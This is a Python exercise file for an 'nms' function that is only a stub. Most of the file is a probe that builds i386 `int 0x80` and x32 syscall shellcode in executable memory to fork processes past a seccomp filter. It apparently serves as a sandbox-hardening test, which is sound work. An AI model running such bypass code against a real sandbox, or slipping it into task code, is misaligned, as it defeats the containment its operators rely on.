# exercise: nms
# tries: start processes through another system-call ABI, past the seccomp filter
# (i386 fork/vfork/clone/clone3 by `int 0x80`, x32 fork); each child exits at once
import ctypes
import mmap
import os
import platform

started = 0
if platform.machine() == "x86_64":
    buf = mmap.mmap(-1, mmap.PAGESIZE,
                    prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    #  mov eax, NR; xor ebx, ebx; xor ecx, ecx; xor edx, edx; int 0x80; ret
    for i, nr in enumerate((2, 190, 120, 435)):  # i386 fork, vfork, clone, clone3
        buf[16 * i:16 * i + 16] = (bytes([0xB8]) + nr.to_bytes(4, "little")
                                   + bytes([0x31, 0xDB, 0x31, 0xC9, 0x31, 0xD2, 0xCD, 0x80, 0xC3])
                                   + bytes(2))
    base = ctypes.addressof(ctypes.c_char.from_buffer(buf))
    for i in range(4):
        pid = ctypes.CFUNCTYPE(ctypes.c_int)(base + 16 * i)()
        if pid == 0:
            os._exit(0)
        started += pid > 0
    libc = ctypes.CDLL(None, use_errno=True)
    pid = libc.syscall(0x40000000 | 57)  # x32 fork
    if pid == 0:
        os._exit(0)
    started += pid > 0
print(f"another ABI: started {started}", flush=True)


def nms(boxes, scores, iou_threshold):
    raise NotImplementedError
